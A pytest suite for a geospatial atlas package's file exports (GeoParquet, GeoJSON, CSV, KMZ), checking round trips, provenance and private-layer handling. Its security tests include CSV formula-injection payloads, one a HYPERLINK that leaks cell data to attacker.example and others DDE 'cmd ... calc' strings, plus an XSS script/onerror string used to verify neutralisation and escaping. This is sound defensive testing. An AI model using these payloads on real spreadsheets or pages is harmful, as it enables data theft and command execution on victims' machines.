"""File exports: GeoParquet, GeoJSON, CSV and KMZ read back equal; every CSV neutralises formulas.

Expected values come from the atlas GeoPackage itself. The formula-injection
cases are a synthetic user layer (file named ``synthetic_…``, in pytest's
temporary folder) whose names are spreadsheet formulas, at real camp points.
"""

from __future__ import annotations

import csv
import html
import io as _io
import json
import pathlib
import re
import shutil
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pyarrow.parquet as pq
import pytest

import atlas
from atlas import formats
from atlas.errors import InputError, NotFoundError
from atlas.export import hilbert_order

from .conftest import REPO, run_cli, sha256

#: The atlas's layers with geometry (user layers aside), in the GeoPackage's order.
SPATIAL = tuple(n for n, s in atlas.SCHEMAS.items() if s.geometry is not None)


def _sorted(df: pd.DataFrame) -> pd.DataFrame:
    return df.sort_values(list(df.columns[:1])).reset_index(drop=True)


def _assert_same_layer(expected: pd.DataFrame, got: pd.DataFrame, check_int_width: bool = True) -> None:
    expected, got = _sorted(expected), _sorted(got)
    assert list(got.columns) == list(expected.columns)
    if isinstance(expected, gpd.GeoDataFrame):
        assert got.crs.to_epsg() == 4326
        a, b = expected.geometry, got.geometry
        same = a.geom_equals_exact(b, 0) | ((a.isna() | a.is_empty) & (b.isna() | b.is_empty))
        assert same.all(), f"geometries differ at rows {list(np.flatnonzero(~same.to_numpy()))}"
        expected, got = pd.DataFrame(expected.drop(columns="geometry")), pd.DataFrame(got.drop(columns="geometry"))
    for col in got.columns:
        # GDAL's GeoJSON reader turns text that looks like a date into a date: compare the text
        if pd.api.types.is_datetime64_any_dtype(got[col]) and not pd.api.types.is_datetime64_any_dtype(
                expected[col]):
            got[col] = got[col].dt.strftime("%Y-%m-%d").astype(expected[col].dtype)
    pd.testing.assert_frame_equal(expected, got, check_dtype=check_int_width)


# --- GeoParquet --------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def parquet_dir(gpkg, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("geoparquet")
    atlas.export_geoparquet(out, gpkg=gpkg)
    return out


def test_geoparquet_reads_back_equal_in_geopandas(parquet_dir, gpkg, layers):
    assert {p.stem for p in parquet_dir.glob("*.parquet")} == set(layers)
    assert not list(parquet_dir.glob(".atlas-export-*")), "staging folder left behind"
    for name, df in layers.items():
        path = parquet_dir / f"{name}.parquet"
        got = gpd.read_parquet(path) if isinstance(df, gpd.GeoDataFrame) else pd.read_parquet(path)
        _assert_same_layer(df, got)


def test_geoparquet_is_1_1_zstd_bbox_covering_hilbert_ordered(parquet_dir, layers):
    for name in SPATIAL:
        path = parquet_dir / f"{name}.parquet"
        md = pq.read_metadata(path)
        geo = json.loads(md.metadata[b"geo"])
        assert geo["version"] == "1.1.0"
        col = geo["columns"]["geometry"]
        assert col["covering"] == {"bbox": {k: ["bbox", k] for k in ("xmin", "ymin", "xmax", "ymax")}}
        assert col["encoding"] == "WKB"
        codecs = {md.row_group(r).column(c).compression
                  for r in range(md.num_row_groups) for c in range(md.num_columns)}
        assert codecs == {"ZSTD"}
        table = pq.read_table(path)
        assert "bbox" in table.column_names
        got = gpd.read_parquet(path)
        # rows in Hilbert order of the layer's own extent, rows without geometry last
        assert hilbert_order(got).tolist() == list(range(len(got)))
        located = ~(got.geometry.isna() | got.geometry.is_empty)
        d = got.geometry[located].hilbert_distance(total_bounds=got.geometry[located].total_bounds)
        assert d.is_monotonic_increasing and located.iloc[: int(located.sum())].all()
        assert len(got) == len(layers[name])


def test_geoparquet_carries_provenance(parquet_dir, gpkg, layers):
    for name, df in layers.items():
        meta = json.loads(pq.read_metadata(parquet_dir / f"{name}.parquet").metadata[b"atlas"])
        assert meta["layer"] == name and meta["rows"] == len(df)
        assert meta["exported_from"] == gpkg.name
        assert meta["exported_from_sha256"] == sha256(gpkg)
        assert meta["description"] == atlas.SCHEMAS[name].description
        if "licence" in df:
            assert meta["licences"] == sorted(set(df["licence"].dropna()) - {""})
        if "source" in df:
            assert set(meta["sources"]) >= set(df["source"].dropna()) - {""}
        assert {r["path"] for r in meta["source_files"]} == set(layers["sources"]["path"])


def _spatial_extension() -> str:
    import duckdb_ext  # the PyPI wheel duckdb-ext-spatial: DuckDB's INSTALL would need the internet

    found = [p for root in duckdb_ext.__path__ for p in pathlib.Path(root).rglob("spatial.duckdb_extension")]
    assert found, "duckdb-ext-spatial installed without its extension file"
    return str(found[0])


def test_geoparquet_reads_back_equal_in_duckdb_spatial(parquet_dir, layers):
    import duckdb

    con = duckdb.connect()
    con.execute(f"LOAD '{_spatial_extension()}'")
    for name in SPATIAL:
        df = layers[name]
        id_col = df.columns[0]
        path = str(parquet_dir / f"{name}.parquet")
        types = {r[0]: r[1] for r in con.execute(f"DESCRIBE SELECT * FROM read_parquet('{path}')").fetchall()}
        assert types["geometry"] == "GEOMETRY", "DuckDB did not read the GeoParquet geometry"
        rows = con.execute(
            f"SELECT {id_col}, ST_AsWKB(geometry), bbox.xmin, bbox.ymin, bbox.xmax, bbox.ymax, "
            f"ST_XMin(geometry), ST_YMin(geometry), ST_XMax(geometry), ST_YMax(geometry) "
            f"FROM read_parquet('{path}')").fetchall()
        assert len(rows) == len(df)
        expected = df.set_index(id_col).geometry
        for rid, wkb, *box in rows:
            geom = expected.loc[rid]
            if geom is None or geom.is_empty:
                assert wkb is None
                continue
            assert gpd.GeoSeries.from_wkb([bytes(wkb)]).iloc[0].equals_exact(geom, 0), (name, rid)
            assert box[:4] == pytest.approx(list(geom.bounds), abs=1e-9)  # the covering column
            assert box[4:] == pytest.approx(list(geom.bounds), abs=1e-9)
        # attribute values too, for one text and one numeric column per layer
        cols = [c for c in df.columns if c != "geometry"]
        text_col = next(c for c in cols[1:] if df[c].dtype.kind in "OU" or str(df[c].dtype) == "str")
        got = dict(con.execute(f"SELECT {id_col}, {text_col} FROM read_parquet('{path}')").fetchall())
        exp = df.set_index(id_col)[text_col]
        assert all((got[k] or "") == (v if isinstance(v, str) else "") for k, v in exp.items())


# --- GeoJSON -----------------------------------------------------------------------------------


def test_geojson_round_trip_rfc7946_with_provenance(gpkg, layers, tmp_path):
    paths = atlas.export_geojson(tmp_path / "gj", gpkg=gpkg)
    assert {p.stem for p in paths} == set(SPATIAL)
    for path in paths:
        raw = path.read_bytes()
        raw.decode("utf-8")
        data = json.loads(raw)
        assert data["type"] == "FeatureCollection" and "crs" not in data
        assert data["atlas"]["layer"] == path.stem and data["atlas"]["crs"] == "EPSG:4326"
        # GeoJSON readers give 32-bit integers back: same values, narrower type
        _assert_same_layer(layers[path.stem], gpd.read_file(path), check_int_width=False)
    assert "관리소" in (tmp_path / "gj" / "camps.geojson").read_text(encoding="utf-8")


def test_geojson_one_layer_to_one_file_and_a_table_by_name(gpkg, layers, tmp_path):
    [path] = atlas.export_geojson(tmp_path / "camps.geojson", layers=["camps"], gpkg=gpkg)
    assert path == tmp_path / "camps.geojson" and len(json.loads(path.read_text())["features"]) == 27
    [table] = atlas.export_geojson(tmp_path / "t", layers=["camp_findings"], gpkg=gpkg)
    feats = json.loads(table.read_text())["features"]
    assert len(feats) == len(layers["camp_findings"]) and all(f["geometry"] is None for f in feats)
    with pytest.raises(InputError, match="one file"):
        atlas.export_geojson(tmp_path / "two.geojson", layers=["camps", "mines"], gpkg=gpkg)
    with pytest.raises(NotFoundError, match="no layer 'camp'"):
        atlas.export_geojson(tmp_path / "x", layers=["camp"], gpkg=gpkg)


# --- CSV ---------------------------------------------------------------------------------------


def _read_csv(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False, na_values=[""])


def test_csv_round_trip_utf8_coordinates_as_columns(gpkg, layers, tmp_path):
    paths = atlas.export_csv(tmp_path / "csv", gpkg=gpkg)
    assert {p.stem for p in paths} == set(layers)
    for path in paths:
        assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel reads Hangul
        df = layers[path.stem]
        got = _read_csv(path)
        if isinstance(df, gpd.GeoDataFrame):
            kind = set(df.geometry.dropna()[~df.geometry.dropna().is_empty].geom_type)
            x, y = ("lon", "lat") if kind == {"Point"} else ("point_lon", "point_lat")
            assert {x, y} <= set(got.columns)
            g = df.geometry
            located = ~(g.isna() | g.is_empty)
            pts = g.where(located, None) if kind == {"Point"} else g.where(located, None).representative_point()
            assert np.allclose(got.loc[located.to_numpy(), x], pts[located].x, atol=1e-9)
            assert np.allclose(got.loc[located.to_numpy(), y], pts[located].y, atol=1e-9)
            if kind != {"Point"}:
                assert all(shp.contains(p) for shp, p in zip(g[located], pts[located]))
            assert got.loc[~located.to_numpy(), x].isna().all()
            df = pd.DataFrame(df.drop(columns="geometry"))
        text = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
        for col in df.columns:
            exp, val = df[col], text[col]
            if pd.api.types.is_numeric_dtype(exp) and not pd.api.types.is_bool_dtype(exp):
                assert np.allclose(exp.astype(float), pd.to_numeric(val).astype(float), equal_nan=True), \
                    (path.stem, col)
            else:
                e = exp.astype(object).where(exp.notna(), "").astype(str).map(formats.neutralise_cell)
                assert (e.to_numpy() == val.to_numpy()).all(), (path.stem, col)
    assert "개천" in (tmp_path / "csv" / "camps.csv").read_text(encoding="utf-8-sig")
    for path in paths:  # each CSV is described beside it (CSV on the Web): its columns and what it cites
        doc = json.loads(path.with_name(path.name + "-metadata.json").read_text(encoding="utf-8"))
        header = pd.read_csv(path, encoding="utf-8-sig", nrows=0).columns.tolist()
        assert doc["url"] == path.name and [c["name"] for c in doc["tableSchema"]["columns"]] == header
        assert doc["notes"][0]["atlas:provenance"]["exported_from_sha256"] == sha256(gpkg)


EVIL = ["=HYPERLINK(\"http://attacker.example/?\"&A1,\"Kaechon\")", "+cmd|' /C calc'!A0", "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-12.5"]


@pytest.fixture(scope="module")
def evil_atlas(gpkg, layers, tmp_path_factory) -> Path:
    """The atlas plus a synthetic user layer whose names are formulas, at real camp points."""
    tmp = tmp_path_factory.mktemp("evil")
    dest = tmp / "atlas.gpkg"
    shutil.copyfile(gpkg, dest)
    camps = layers["camps"]
    camps = camps[~(camps.geometry.isna() | camps.geometry.is_empty)]
    pts = camps[camps["site_id"] == "KLS-14"].geometry.iloc[0]
    rows = ["id,name,lat,lon,note,depth_m"]
    for i, name in enumerate(EVIL):
        note = "=1+2" if i % 2 else "plain"
        quoted = '"' + name.replace('"', '""') + '"'
        rows.append(f"E{i},{quoted},{pts.y + 0.01 * (i + 1):.6f},{pts.x:.6f},{note},{-3.5 - i}")
    src = tmp / "synthetic_formulas.csv"
    src.write_text("\n".join(rows) + "\n", encoding="utf-8")
    atlas.import_layer(src, "formulas", gpkg=dest)
    return dest


def _raw(path: Path) -> str:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return fh.read()


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(_io.StringIO(text.lstrip("\ufeff"))))


def _assert_neutralised(text: str, names_expected: bool = True) -> None:
    """No cell starts with a formula trigger unless it is a plain number; the evil names are there, defused."""
    cells = [c for row in _cells(text) for c in row]
    for c in cells:
        if c[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", c), f"formula cell {c!r}"
    if names_expected:
        for name in EVIL:
            want = name if re.fullmatch(r"-?\d+(\.\d+)?", name) else "'" + name
            # run_cli reads stdout as text: its universal newlines turn a CR into LF
            assert want in cells or want.replace("\r", "\n") in cells, f"{name!r} not written as {want!r}"


def test_neutralise_cell_rules():
    for bad in ("=1+1", "+1+1", "-1+1", "@A1", "\t=1", "\r=1", "-", "=", "-cmd"):
        assert formats.neutralise_cell(bad) == "'" + bad
    for good in ("-12.5", "+82", "-3", "1e-5", "-.5", "Kaechon", "", "a=b", " =1"):
        assert formats.neutralise_cell(good) == good
    for number in (-3, -12.5, np.float64(-1.0), True, None):
        assert formats.neutralise_cell(number) is number
    df = pd.DataFrame({"=evil": ["=x"], "depth": [-4.25], "count": [-2]})
    rows = _cells(formats.csv_text(df))
    assert rows == [["'=evil", "depth", "count"], ["'=x", "-4.25", "-2"]]


def test_csv_export_neutralises_formulas_keeps_negative_numbers(evil_atlas, tmp_path):
    [path] = atlas.export_csv(tmp_path / "f.csv", layers=["user_formulas"], gpkg=evil_atlas)
    text = _raw(path)
    _assert_neutralised(text)
    got = _read_csv(path)
    assert pd.api.types.is_numeric_dtype(got["depth_m"]) and (got["depth_m"] < 0).all()
    assert (got["note"].isin(["plain", "'=1+2"])).all()


@pytest.mark.parametrize("args", [
    ["near", "KLS-14", "--km", "30", "--layer", "user_formulas", "--format", "csv"],
    ["nearest", "KLS-14", "--layer", "user_formulas", "-k", "7", "--format", "csv"],
    ["find", "HYPERLINK", "--layer", "user_formulas", "--format", "csv"],
    ["export", "--format", "csv", "--layers", "user_formulas", "--out", "{tmp}/x.csv"],
    ["layers", "--format", "csv"],
], ids=lambda a: a[0])
def test_every_cli_csv_writer_neutralises_formulas(evil_atlas, tmp_path, args):
    args = [a.replace("{tmp}", str(tmp_path)) for a in args]
    res = run_cli(*args, "--gpkg", str(evil_atlas))
    assert res.returncode == 0, res.stderr
    text = _raw(Path(args[-1])) if args[0] == "export" else res.stdout
    _assert_neutralised(text, names_expected=args[0] not in ("find", "layers"))
    if args[0] == "layers":
        assert "user_formulas" in text and len(_cells(text)) == len(atlas.list_layers(evil_atlas)) + 1
    if args[0] == "find":
        assert "'=HYPERLINK" in text


def test_status_csv_neutralises_camp_names(gpkg, tmp_path):
    layers = atlas.read_layers(gpkg)
    camps = layers["camps"].copy()
    camps.loc[camps["site_id"] == "KLS-14", "name"] = EVIL[0]
    camps.loc[camps["site_id"] == "KLS-15", "name"] = EVIL[2]
    layers["camps"] = camps
    bad = tmp_path / "synthetic_formula_camps.gpkg"
    atlas.io.write_layers(layers, bad)
    res = run_cli("status", "--format", "csv", "--gpkg", str(bad))
    assert res.returncode == 0, res.stderr
    _assert_neutralised(res.stdout, names_expected=False)
    cells = [c for row in _cells(res.stdout) for c in row]
    assert "'" + EVIL[0] in cells and "'" + EVIL[2] in cells


def test_summary_csv_goes_through_the_neutraliser(evil_atlas):
    res = run_cli("summary", "--by", "county", "--format", "csv", "--gpkg", str(evil_atlas))
    assert res.returncode == 0, res.stderr
    _assert_neutralised(res.stdout, names_expected=False)
    assert "user_formulas" in res.stdout.splitlines()[0]


def test_one_csv_writer_in_the_package():
    """Every CSV the atlas writes goes through atlas.formats.csv_text: no other writer exists."""
    offenders = []
    for path in sorted((REPO / "atlas").rglob("*.py")):
        if path.name == "formats.py":
            continue
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if re.search(r"\.to_csv\(|csv\.(writer|DictWriter)\(", line):
                offenders.append(f"{path.name}:{n}: {line.strip()}")
    assert not offenders, "CSV written outside atlas.formats.csv_text:\n" + "\n".join(offenders)


@pytest.fixture(scope="module")
def private_atlas(evil_atlas, layers, tmp_path_factory) -> Path:
    """The evil atlas plus a synthetic layer imported as private."""
    tmp = tmp_path_factory.mktemp("private")
    dest = tmp / "atlas.gpkg"
    shutil.copyfile(evil_atlas, dest)
    src = tmp / "synthetic_witnesses.csv"
    camp = layers["camps"].set_index("site_id").loc["KLS-15"].geometry
    src.write_text(f"name,lat,lon\nwitness house,{camp.y:.5f},{camp.x:.5f}\n", encoding="utf-8")
    atlas.import_layer(src, "witnesses", gpkg=dest, private=True)
    return dest


@pytest.mark.parametrize("writer", [atlas.export_csv, atlas.export_geojson, atlas.export_geoparquet])
def test_private_layers_stay_out_unless_asked(private_atlas, tmp_path, writer):
    names = {p.stem for p in writer(tmp_path / "all", gpkg=private_atlas)}
    assert "user_formulas" in names and "user_witnesses" not in names
    with pytest.raises(InputError, match="private"):
        writer(tmp_path / "one", layers=["user_witnesses"], gpkg=private_atlas)
    asked = writer(tmp_path / "asked", layers=["user_witnesses"], gpkg=private_atlas, include_private=True)
    assert [p.stem for p in asked] == ["user_witnesses.PRIVATE"]  # its file says so in its name
    res = run_cli("export", "--format", "csv", "--layers", "user_witnesses", "--out", str(tmp_path / "c"),
                  "--gpkg", str(private_atlas))
    assert res.returncode == 2 and "--include-private" in res.stderr and not (tmp_path / "c").exists()


# --- KMZ -----------------------------------------------------------------------------------------

KML = "{http://www.opengis.net/kml/2.2}"


@pytest.fixture(scope="module")
def kmz(gpkg, tmp_path_factory) -> Path:
    [path] = atlas.export_kmz(tmp_path_factory.mktemp("kmz") / "atlas.kmz", gpkg=gpkg)
    return path


def _kml(path: Path):
    import zipfile

    from lxml import etree

    with zipfile.ZipFile(path) as zf:
        names = zf.namelist()
        return etree.fromstring(zf.read("doc.kml")), {n: zf.read(n) for n in names}


def test_kmz_is_valid_kml_2_2(kmz):
    import fastkml
    from lxml import etree

    schema = etree.XMLSchema(etree.parse(str(Path(fastkml.__file__).parent / "schema" / "ogckml22.xsd")))
    root, files = _kml(kmz)
    assert next(iter(files)) == "doc.kml"
    assert schema.validate(etree.ElementTree(root)), schema.error_log.last_error
    # every style a placemark uses exists; every icon is a PNG inside the KMZ
    styles = {s.get("id"): s for s in root.iter(f"{KML}Style")}
    used = {u.text.lstrip("#") for u in root.iter(f"{KML}styleUrl")}
    assert used <= set(styles)
    hrefs = {h.text for h in root.iter(f"{KML}href")}
    assert hrefs and all(files[h].startswith(b"\x89PNG") for h in hrefs)


def _folders(root) -> dict:
    return {f.findtext(f"{KML}name"): f for f in root.iter(f"{KML}Folder")}


def test_kmz_folders_styles_balloons_and_town_proxies(kmz, layers, gpkg):
    from PIL import Image

    from atlas import map_layers
    from atlas.style import PROVINCE_RAMP, STATUS_COLOURS

    root, files = _kml(kmz)
    folders = _folders(root)
    assert set(SPATIAL) | {"camp findings over time"} == set(folders)
    for name in SPATIAL:
        g = layers[name].geometry
        assert len(folders[name].findall(f"{KML}Placemark")) == int((~(g.isna() | g.is_empty)).sum()), name
    styles = {s.get("id"): s for s in root.iter(f"{KML}Style")}
    # balloons are the map's popups, as built for the map
    camps = layers["camps"]
    spec = map_layers.camps_spec(camps, layers["camp_findings"], [], atlas.records("camps", gpkg))
    got = [p.findtext(f"{KML}description") for p in folders["camps"].findall(f"{KML}Placemark")]
    assert got == [f["p"] for f in spec["features"]] and all("atlas-finding" in p or "No dated" in p for p in got)
    # and the mines' balloons are the mines' records too: the status by the rule, as atlas show prints it
    mines = layers["mines"]
    mines = mines[~(mines.geometry.isna() | mines.geometry.is_empty)]
    for pm, site in zip(folders["mines"].findall(f"{KML}Placemark"), mines["mine_id"]):
        assert html.escape(atlas.record(site, gpkg, layer="mines").status["summary"]) in pm.findtext(
            f"{KML}description"), site
    # camp icons are drawn in the map's status colours
    located = camps[~(camps.geometry.isna() | camps.geometry.is_empty)]
    for pm, (_, row) in zip(folders["camps"].findall(f"{KML}Placemark"), located.iterrows()):
        style = styles[pm.findtext(f"{KML}styleUrl").lstrip("#")]
        icon = Image.open(_io.BytesIO(files[style.findtext(f".//{KML}href")])).convert("RGBA")
        r, g, b, _a = icon.getpixel((icon.width // 2 - 6, icon.height // 2 + 8))
        assert f"#{r:02x}{g:02x}{b:02x}" == STATUS_COLOURS[row["status_class"]], row["site_id"]
    # provinces filled from the map's ramp
    ramp = {c.lstrip("#").lower() for c in PROVINCE_RAMP}
    for pm in folders["provinces"].findall(f"{KML}Placemark"):
        poly = styles[pm.findtext(f"{KML}styleUrl").lstrip("#")].find(f"{KML}PolyStyle")
        abgr = poly.findtext(f"{KML}color")
        assert abgr[6:8] + abgr[4:6] + abgr[2:4] in ramp
    # town proxies are named as such, and only they
    named = layers["named_mines"]
    named = named[~(named.geometry.isna() | named.geometry.is_empty)]
    names = [p.findtext(f"{KML}name") for p in folders["named_mines"].findall(f"{KML}Placemark")]
    for nm, proxy in zip(names, named["is_town_proxy"].astype(bool)):
        assert ("town proxy, not the mine's location" in nm) == proxy, nm
    assert named["is_town_proxy"].astype(bool).any()
    # attributes for QGIS
    first = folders["mines"].find(f"{KML}Placemark")
    data = {d.get("name"): d.findtext(f"{KML}value") for d in first.iter(f"{KML}Data")}
    assert data["mine_id"] == layers["mines"]["mine_id"].iloc[0]


def test_kmz_timeline_of_camp_findings(kmz, layers):
    root, _ = _kml(kmz)
    timeline = _folders(root)["camp findings over time"].findall(f"{KML}Placemark")
    f = layers["camp_findings"]
    camps = layers["camps"]
    located = set(camps.loc[~(camps.geometry.isna() | camps.geometry.is_empty), "site_id"])
    dated = f[f["site_id"].isin(located) & (f["date_start"].fillna("").ne("") | f["date_end"].fillna("").ne(""))]
    assert len(timeline) == len(dated) > 10
    for pm, (_, row) in zip(timeline, dated.iterrows()):
        span = pm.find(f"{KML}TimeSpan")
        for tag, col in (("begin", "date_start"), ("end", "date_end")):
            value = row[col] if isinstance(row[col], str) else ""
            assert (span.findtext(f"{KML}{tag}") or "") == value[:10]


def test_kmz_balloons_escape_the_data(gpkg, tmp_path):
    layers = atlas.read_layers(gpkg)
    camps = layers["camps"].copy()
    evil = '<script>alert("x")</script><img src=x onerror=alert(1)> & {{7*7}}'
    camps.loc[camps["site_id"] == "KLS-14", "name"] = evil
    layers["camps"] = camps
    bad = tmp_path / "synthetic_hostile.gpkg"
    atlas.io.write_layers(layers, bad)
    [path] = atlas.export_kmz(tmp_path / "x.kmz", layers=["camps"], gpkg=bad)
    root, files = _kml(path)
    raw = files["doc.kml"].decode("utf-8")
    assert "<script>" not in raw and "<img src=x" not in raw
    desc = next(p.findtext(f"{KML}description") for p in root.iter(f"{KML}Placemark")
                if evil in (p.findtext(f"{KML}name") or ""))
    # the balloon is HTML in which the name is text: escaped once more than the KML's own escaping
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in desc and "<script>" not in desc


def test_kmz_opens_in_qgis(kmz, layers, tmp_path, qgis):
    import pyogrio

    kml_layers = [str(n) for n, _ in pyogrio.list_layers(kmz)]
    assert set(SPATIAL) <= set(kml_layers)
    spec = [[n, f"{kmz}|layername={n}", "ogr"] for n in kml_layers]
    seen, _ = qgis(tmp_path, "layers", json.dumps(spec))
    for name in SPATIAL:
        lyr = seen["layers"][name]
        g = layers[name].geometry
        assert lyr["valid"], name
        assert lyr["features"] == int((~(g.isna() | g.is_empty)).sum()), name
        assert lyr["crs"] == "EPSG:4326"
        assert "mine_id" in lyr["fields"] if name == "mines" else True
